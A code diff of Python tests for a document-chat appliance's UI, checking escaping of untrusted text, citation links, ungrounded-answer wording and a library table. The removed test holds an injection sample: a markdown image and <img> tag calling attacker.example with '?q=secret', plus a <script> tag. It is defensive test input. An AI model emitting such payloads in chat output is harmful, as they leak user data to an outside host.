@@ -1,33 +1,61 @@
-"""What the chat page renders from untrusted text (documents, model output)."""
+"""What the chat page renders from untrusted text (documents, model output), and the library's table."""
 
 from __future__ import annotations
 
-from appliance.rag import Answer, Source
-from ui.chat import citation_footer, inert, render_sources
+from appliance.rag import NOT_FOUND, Answer, Source
+from ingest.manifest import FileRecord
+from ui.chat import UNGROUNDED, answer_markdown, inert, link_citations
+from ui.library import document_rows
+from ui.sources import choices, location, source_record
 
 
-def _source(text: str, name: str = "memo.pdf") -> Source:
-    return Source(number=1, path=f"/share/{name}", file_name=name, page=2, page_name=None, section=["Intro"],
-                  score=0.5, dense_score=0.61, keyword_score=None, text=text)
-
-
-def test_document_text_cannot_fetch_or_inject() -> None:
-    evil = "See ![x](http://attacker.example/?q=secret) and <img src=http://attacker.example/a.png> <script>1</script>"
-    out = render_sources(Answer("q", "a", [_source(evil, name="<b>x</b>.pdf")], grounded=True, cited=[1]))
-    assert "<img" not in out
-    assert "<script" not in out
-    assert "![" not in out
-    assert "&lt;b&gt;x&lt;/b&gt;.pdf" in out
-    assert "page 2" in out
-    assert "similarity 0.61" in out
-    assert "✓ cited" in out
+def _source(text: str, name: str = "memo.pdf", number: int = 1) -> Source:
+    return Source(number=number, path=f"/share/{name}", file_name=name, page=2, page_name=None, section=["Intro"],
+                  score=0.5, dense_score=0.61, keyword_score=None, text=text, doc_id="d1", chunk_index=3)
 
 
 def test_model_output_is_made_inert() -> None:
     assert inert("![t](http://h/x) <img src=y>") == "!&#91;t](http://h/x) &lt;img src=y&gt;"
 
 
-def test_footer_lists_sources_only_for_grounded_answers() -> None:
-    grounded = Answer("q", "a", [_source("t")], grounded=True)
-    assert "[1] memo.pdf, page 2" in citation_footer(grounded)
-    assert citation_footer(Answer("q", "a", [_source("t")], grounded=False)) == ""
+def test_citations_link_only_to_sources_the_answer_has() -> None:
+    out = link_citations(inert("Leave is 25 days [1], see [7] <b>"), 4, {1, 2})
+    assert "[[1]](#cite-4-1)" in out
+    assert "[7]" in out
+    assert "#cite-4-7" not in out
+    assert "<b>" not in out
+
+
+def test_grounded_answer_lists_its_sources_as_links() -> None:
+    answer = Answer("q", "It is 25 days [2].", [_source("t"), _source("u", "hr.docx", 2)], grounded=True, cited=[2])
+    out = answer_markdown(answer, 1)
+    assert "[[2]](#cite-1-2)" in out
+    assert "[[1]](#cite-1-1) memo.pdf, page 2" in out
+    assert UNGROUNDED not in out
+
+
+def test_answer_from_no_document_says_so() -> None:
+    out = answer_markdown(Answer("q", NOT_FOUND, [_source("closest")], grounded=False), 1)
+    assert out.startswith(UNGROUNDED)
+    assert "closest passages" in out
+    assert "#cite-" not in out
+
+
+def test_source_names_are_escaped_in_the_panel_choices() -> None:
+    record = source_record(_source("passage", name="<b>x</b>.pdf"))
+    assert (record["text"], record["doc_id"], record["chunk_index"]) == ("passage", "d1", 3)
+    assert location(record) == "<b>x</b>.pdf, page 2"  # a Radio label is text, never HTML
+    assert choices([record]) == [("[1] <b>x</b>.pdf, page 2", "1")]
+
+
+def test_library_rows_filter_by_name_and_status() -> None:
+    records = [FileRecord("/s/a/Policy.pdf", 1, 1, "x", "ok", pages=3, chunk_ids=["1", "2"], ingested_at=200.0),
+               FileRecord("/s/b/broken.docx", 1, 1, "y", "failed", error="corrupt: not a zip file", ingested_at=100.0),
+               FileRecord("/s/b/notes.md", 1, 1, "z", "ok", notes=["2 pages skipped"], ingested_at=300.0)]
+    rows, paths = document_rows(records)
+    assert paths == ["/s/b/notes.md", "/s/a/Policy.pdf", "/s/b/broken.docx"]  # newest first
+    assert rows[1][:6] == ["Policy.pdf", "pdf", 3, 2, rows[1][4], "ok"]
+    assert rows[0][6] == "2 pages skipped"
+    assert document_rows(records, "POLICY")[1] == ["/s/a/Policy.pdf"]
+    failed, _ = document_rows(records, status="failed")
+    assert [(r[0], r[6]) for r in failed] == [("broken.docx", "corrupt: not a zip file")]
